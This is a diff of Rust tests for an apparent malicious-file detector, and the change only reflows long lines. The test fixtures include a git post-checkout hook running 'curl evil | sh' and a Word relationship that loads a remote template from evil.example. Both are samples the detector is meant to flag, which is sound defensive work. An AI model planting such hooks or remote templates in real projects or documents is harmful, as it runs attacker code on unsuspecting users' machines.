@@ -41,7 +41,10 @@ fn inside_archives_and_documents() {
     let rels = br#"<Relationships><Relationship Type="http://schemas/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
     let docx = zip(&[("[Content_Types].xml", b"<Types/>"), ("word/_rels/settings.xml.rels", rels)]);
     assert_eq!(traits("JD.docx", &docx), [FileTrait::RemoteTemplate]);
-    assert_eq!(traits("JD.docm", &zip(&[("[Content_Types].xml", b""), ("word/vbaProject.bin", b"x")])), [FileTrait::Macro]);
+    assert_eq!(
+        traits("JD.docm", &zip(&[("[Content_Types].xml", b""), ("word/vbaProject.bin", b"x")])),
+        [FileTrait::Macro]
+    );
 }
 
 #[test]
@@ -59,10 +62,21 @@ fn source_trees() {
         ("task/.git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n"),
     ]);
     let found = traits("task.zip", &tree);
-    for wanted in [FileTrait::RunOnOpen, FileTrait::HiddenCode, FileTrait::EncodedUrl, FileTrait::InstallScript, FileTrait::CustomRegistry, FileTrait::GitHook] {
+    for wanted in [
+        FileTrait::RunOnOpen,
+        FileTrait::HiddenCode,
+        FileTrait::EncodedUrl,
+        FileTrait::InstallScript,
+        FileTrait::CustomRegistry,
+        FileTrait::GitHook,
+    ] {
         assert!(found.contains(&wanted), "{wanted:?}");
     }
-    let honest = zip(&[("t/package.json", br#"{"scripts":{"test":"jest","prepare":"husky"}}"#), ("t/src/a.js", b"export const add = (a, b) => a + b;\n"), ("t/README.md", b"Read https://example.com")]);
+    let honest = zip(&[
+        ("t/package.json", br#"{"scripts":{"test":"jest","prepare":"husky"}}"#),
+        ("t/src/a.js", b"export const add = (a, b) => a + b;\n"),
+        ("t/README.md", b"Read https://example.com"),
+    ]);
     assert!(traits("task.zip", &honest).is_empty());
 }
 
